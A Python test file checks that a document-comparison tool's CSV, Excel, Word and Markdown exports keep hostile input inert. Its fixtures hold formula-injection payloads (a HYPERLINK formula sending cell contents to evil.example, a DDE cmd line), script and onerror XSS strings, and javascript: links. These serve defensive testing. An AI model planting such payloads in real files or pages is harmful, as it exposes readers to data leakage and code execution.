"""Exports that must stay inert and whole: formula injection, control characters, HTML in Markdown, names and
numbers in reports, the Word redline colours against the screen's."""
from __future__ import annotations

import csv
import re
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from indexer import export
from indexer.compare import align
from indexer.compare import coverage as cov
from indexer.ingest.lists import primary_list
from tests.align_fixtures import CHAOZHOU, DONGGUAN, PROVINCE, FakeEmbedder, corpus, doc

ROOT = Path(__file__).resolve().parent.parent
# What a hostile document, pasted list or file name puts in a cell (OWASP's examples and their variants).
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3",
            "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1"]
CONTROLS = "通知\x1b[31m红字\x07响铃\x0c换页\x00空\x08退格\x0b竖表\x1f单元\ufffe\ud800尾"


def _report(cells: list, numbers=(0.5, -3, 12)) -> export.Report:
    rows = tuple((c, n) for c, n in zip(cells, list(numbers) * len(cells), strict=False))
    return export.Report("标题", ("摘要一",), (export.Table("表", ("文本", "得分"), rows),))


# ---------------------------------------------------------------- 1. formula injection

def test_csv_cells_that_read_as_formulas_get_a_quote_and_numbers_stay_numbers(tmp_path):
    path = export.write_report(_report(FORMULAS), tmp_path / "r.csv")
    rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert [r[1] for r in rows[1:4]] == ["0.5", "-3", "12"]  # numbers are not prefixed


def test_xlsx_keeps_formula_like_text_as_text(tmp_path):
    from openpyxl import load_workbook

    path = export.write_report(_report(FORMULAS), tmp_path / "r.xlsx")
    ws = load_workbook(path)["表"]
    cells = [r[0] for r in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == FORMULAS  # shown exactly as written
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # text with Excel's quote, never a formula
    scores = [r[1] for r in ws.iter_rows(min_row=2)]
    assert [c.value for c in scores[:3]] == [0.5, -3, 12] and all(c.data_type == "n" for c in scores)
    assert not any(c.data_type == "f" for sheet in load_workbook(path) for row in sheet.iter_rows() for c in row)


def test_pasted_items_and_clause_text_are_neutralised_in_coverage_and_alignment(tmp_path):
    from openpyxl import load_workbook

    items = ["=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1)", "智能家电"]
    result = cov.coverage(primary_list(doc(PROVINCE)), items, embedder=FakeEmbedder(), reference_label=PROVINCE,
                          target_label="pasted list")
    wb = load_workbook(export.export(result, tmp_path / "c.xlsx"))
    assert [r[0] for r in wb["目标条目"].iter_rows(min_row=2, values_only=True)] == items
    assert not any(c.data_type == "f" for sheet in wb for row in sheet.iter_rows() for c in row)
    rows = list(csv.reader(export.export(result, tmp_path / "c.csv").open(encoding="utf-8-sig")))
    assert {"'" + items[0], "'" + items[1]} <= {r[0] for r in rows if r}

    a, b = doc(CHAOZHOU), doc(PROVINCE)
    k = next(i for i, c in enumerate(a.clauses) if len(c.text) > 40)
    evil = replace(a.clauses[k], text="=1+1 " + a.clauses[k].text)
    a = replace(a, clauses=(*a.clauses[:k], evil, *a.clauses[k + 1:]))
    al = align.align_documents(a, b, embedder=FakeEmbedder())
    texts = [r[2] for r in csv.reader(export.export(al, tmp_path / "a.csv").open(encoding="utf-8-sig"))]
    assert "'" + evil.text in texts


@given(st.text(max_size=40))
def test_a_spreadsheet_cell_never_starts_a_formula_and_loses_nothing(text):
    cell = export.spreadsheet_cell(text)
    assert not cell.startswith(export.FORMULA_START)
    assert cell.removeprefix("'") == export.clean_text(text) or cell == export.clean_text(text)
    assert export.spreadsheet_cell(1.5) == 1.5 and export.spreadsheet_cell(-2) == -2


# ---------------------------------------------------------------- 2. control characters

@pytest.mark.parametrize("suffix", [".xlsx", ".docx", ".csv", ".md"])
def test_control_characters_never_break_an_export(tmp_path, suffix):
    rep = export.Report(CONTROLS, (CONTROLS,), (export.Table(CONTROLS[:10], ("文本", CONTROLS), ((CONTROLS, 1),)),),
                        redlines=((CONTROLS, CONTROLS, CONTROLS + "新增"),))
    path = export.write_report(rep, tmp_path / f"r{suffix}")
    want = "通知[31m红字响铃\n换页空退格\n竖表单元\ufffd尾"
    assert export.clean_text(CONTROLS) == want
    if suffix == ".xlsx":
        from openpyxl import load_workbook

        assert load_workbook(path)["摘要"]["A1"].value == want
    elif suffix == ".docx":
        from docx import Document as Docx

        d = Docx(str(path))
        assert d.paragraphs[0].text == want and d.tables[0].rows[1].cells[0].text == want
    else:
        text = path.read_text(encoding="utf-8-sig")
        assert "\x1b" not in text and "\x07" not in text and "红字响铃" in text


@given(st.text(max_size=60))
def test_clean_text_leaves_only_xml_characters_and_is_idempotent(text):
    out = export.clean_text(text)
    assert export.clean_text(out) == out
    assert all(c in "\t\n\r" or (0x20 <= ord(c) and c not in "\x7f\ufffe\uffff" and not 0xD800 <= ord(c) <= 0xDFFF)
               for c in out)


# ---------------------------------------------------------------- 3. HTML in Markdown

def test_markdown_escapes_html_in_every_cell_and_heading():
    evil = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "a & b | c"]
    rep = export.Report(evil[0], (evil[1],), (export.Table(evil[1], tuple(evil), (tuple(evil),)),))
    md = export.to_markdown(rep)
    assert "<script" not in md and "<img" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "&lt;img src=x onerror=alert(1)&gt;" in md
    assert "a &amp; b \\| c" in md
    assert "p\\|q<br>r" in export.to_markdown(export.Report("t", (), (export.Table("x", ("a",), (("p|q\nr",),)),)))


# ---------------------------------------------------------------- 4. names, settings and numbers

@pytest.fixture(scope="module")
def coverage_result():
    return cov.coverage(primary_list(doc(PROVINCE)), primary_list(doc(DONGGUAN)), region="东莞市",
                        embedder=FakeEmbedder(), reference_label=PROVINCE, target_label=DONGGUAN)


def test_coverage_report_names_documents_by_title_and_number(coverage_result):
    p, d = doc(PROVINCE).meta, doc(DONGGUAN).meta
    assert p.title and p.doc_number and d.title
    rep = export.coverage_report(coverage_result, corpus(), settings=("参照清单 四、发展重点", "地区 东莞市"))
    assert p.title in rep.title and d.title in rep.title and PROVINCE not in rep.title
    assert rep.summary[0] == f"参照 / reference: 《{p.title}》（{p.doc_number}） [{PROVINCE}]"
    assert rep.summary[1].startswith(f"目标 / target: 《{d.title}》")
    assert "条件 / settings: 参照清单 四、发展重点；地区 东莞市" in rep.summary
    # without the library the doc_ids still name them
    assert export.coverage_report(coverage_result).title == f"清单覆盖情况：{DONGGUAN} 对照 {PROVINCE}"


def test_alignment_report_names_both_documents(tmp_path):
    al = align.align_documents(doc(CHAOZHOU), doc(PROVINCE), embedder=FakeEmbedder())
    rep = export.alignment_report(al, {d.doc_id: d for d in corpus()})
    assert rep.title == (f"条款比对：{export.doc_label(CHAOZHOU, corpus())} 与 "
                         f"《{doc(PROVINCE).meta.title}》（{doc(PROVINCE).meta.doc_number}）")
    assert rep.summary[0].endswith(f"[{CHAOZHOU}]") and rep.summary[1].endswith(f"[{PROVINCE}]")
    md = export.write_report(rep, tmp_path / "a.md").read_text(encoding="utf-8")
    assert md.startswith(f"# 条款比对：{export.doc_label(CHAOZHOU, corpus())}")


def test_scores_are_numbers_and_missing_scores_empty_cells(tmp_path, coverage_result):
    from openpyxl import load_workbook

    wb = load_workbook(export.export(coverage_result, tmp_path / "c.xlsx"))
    ws = wb["参照条目"]
    col = [c.value for c in ws[1]].index("匹配得分")
    scores = [r[col] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(s, int | float) for s in scores if s is not None) and None in scores
    al = align.align_documents(doc(CHAOZHOU), doc(PROVINCE), embedder=FakeEmbedder())
    ws = load_workbook(export.export(al, tmp_path / "a.xlsx"))["条款对应"]
    col = [c.value for c in ws[1]].index("匹配得分")
    scores = [r[col] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(s, int | float) for s in scores[:len(al.pairs)]) and set(scores[len(al.pairs):]) <= {None}
    from docx import Document as Docx

    cells = [r.cells[6].text for r in Docx(str(export.export(al, tmp_path / "a.docx"))).tables[0].rows[1:]]
    assert "None" not in cells


def _screen_colour(css_class: str) -> str:
    css = (ROOT / "app_pages" / "render.py").read_text(encoding="utf-8")
    rule = re.search(rf"{re.escape(css_class)}\s*{{([^}}]*)}}", css).group(1)
    return re.search(r"(?<!-)color:\s*#([0-9a-fA-F]{6})", rule).group(1).upper()


def test_word_redline_colours_and_legend_match_the_screen(tmp_path):
    from docx import Document as Docx

    from indexer.compare.redline import DELETE, INSERT

    assert export.REDLINE_COLOURS == {DELETE: _screen_colour("del.rl-del"), INSERT: _screen_colour("ins.rl-ins")}
    rep = export.Report("t", (), (), redlines=(("第一条", "加快建设海上风电产业", "加快发展海上风电装备产业"),))
    d = Docx(str(export.write_report(rep, tmp_path / "r.docx")))
    runs = [r for p in d.paragraphs for r in p.runs]
    struck = {str(r.font.color.rgb) for r in runs if r.font.strike}
    under = {str(r.font.color.rgb) for r in runs if r.font.underline}
    assert struck == {export.REDLINE_COLOURS[DELETE]} and under == {export.REDLINE_COLOURS[INSERT]}
    legend = next(p.text for p in d.paragraphs if p.text.startswith("差异标注"))
    assert "红色删除线" in legend and "绿色下划线" in legend  # the screen underlines insertions in green


# ---------------------------------------------------------------- 5. live Markdown from document text

LIVE = ["[点击](javascript:alert(3))", "![像素](http://evil.example/p.png)", "<http://evil.example/a>",
        "[参考][1]\n[1]: http://evil.example/r", "![][x]", "[x]: javascript:alert(1)", "`[a](b)`",
        "\\[转义\\](javascript:alert(4))", "<a href='javascript:alert(5)'>链接</a>", "&#91;x&#93;(javascript:alert(6))"]


def rendered(md: str) -> str:
    """The HTML a CommonMark renderer (with GFM tables) makes of an export."""
    MarkdownIt = pytest.importorskip("markdown_it").MarkdownIt

    return MarkdownIt("commonmark").enable("table").render(md)


def no_live_markup(md: str) -> None:
    html = rendered(md)
    assert "<a " not in html and "<img" not in html, html


def test_markdown_exports_keep_no_link_or_image_from_document_text(tmp_path):
    rep = export.Report(LIVE[0], tuple(LIVE), (export.Table(LIVE[1], tuple(LIVE), (tuple(LIVE),)),))
    md = export.to_markdown(rep)
    no_live_markup(md)
    assert "[点击](javascript:alert(3))" in re.sub(r"\\(.)", r"\1", md)  # shown as written, just inert


def test_coverage_and_alignment_md_files_hold_no_live_markdown(tmp_path):
    result = cov.coverage(primary_list(doc(PROVINCE)), LIVE, embedder=FakeEmbedder(), reference_label=PROVINCE,
                          target_label="pasted list")
    no_live_markup(export.export(result, tmp_path / "c.md").read_text(encoding="utf-8"))
    a, b = doc(PROVINCE), doc(DONGGUAN)
    b = replace(b, clauses=[replace(c, text=c.text + LIVE[0] + LIVE[1]) for c in b.clauses])
    al = align.align_documents(a, b, embedder=FakeEmbedder())
    text = export.export(al, tmp_path / "a.md").read_text(encoding="utf-8")
    assert "javascript:alert(3)" in text  # the text is there, as text
    no_live_markup(text)


@given(st.text(alphabet=st.sampled_from(list("[]()!<>:`\\*_~&#;/ajvscript点x1\n|")), max_size=40))
def test_no_text_makes_a_link_or_an_image_in_a_markdown_export(text):
    html = rendered(export.to_markdown(export.Report(text, (text,), (export.Table("t", ("a",), ((text,),)),))))
    assert "<a " not in html and "<img" not in html
